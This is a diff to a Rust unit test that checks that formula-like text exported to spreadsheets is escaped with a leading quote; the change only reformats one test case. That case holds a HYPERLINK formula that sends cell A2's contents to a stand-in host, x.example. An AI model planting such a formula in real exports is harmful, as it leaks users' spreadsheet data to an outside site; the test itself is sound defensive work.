@@ -270,7 +270,11 @@ mod tests {
     #[test]
     fn formula_like_text_is_defused_and_numbers_stay_numbers() {
         let cases: [(Option<AnswerValue>, &str, &str); 17] = [
-            (text("=HYPERLINK(\"https://x.example/?\"&A2,\"open\")"), "'=HYPERLINK(\"https://x.example/?\"&A2,\"open\")", "formula"),
+            (
+                text("=HYPERLINK(\"https://x.example/?\"&A2,\"open\")"),
+                "'=HYPERLINK(\"https://x.example/?\"&A2,\"open\")",
+                "formula",
+            ),
             (text("+1"), "'+1", "plus"),
             (text("-1"), "'-1", "a typed text, not a number"),
             (text("@SUM(A1)"), "'@SUM(A1)", "at"),
